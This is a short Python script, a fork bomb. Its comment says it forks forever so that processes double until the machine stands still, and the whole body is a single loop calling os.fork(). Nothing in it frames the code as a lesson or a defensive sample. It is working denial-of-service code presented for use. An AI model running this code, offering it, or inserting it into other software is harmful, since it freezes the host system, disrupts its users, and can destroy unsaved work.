# Forks for ever, so that the number of processes doubles until the machine stands still.
import os

while True:
    os.fork()
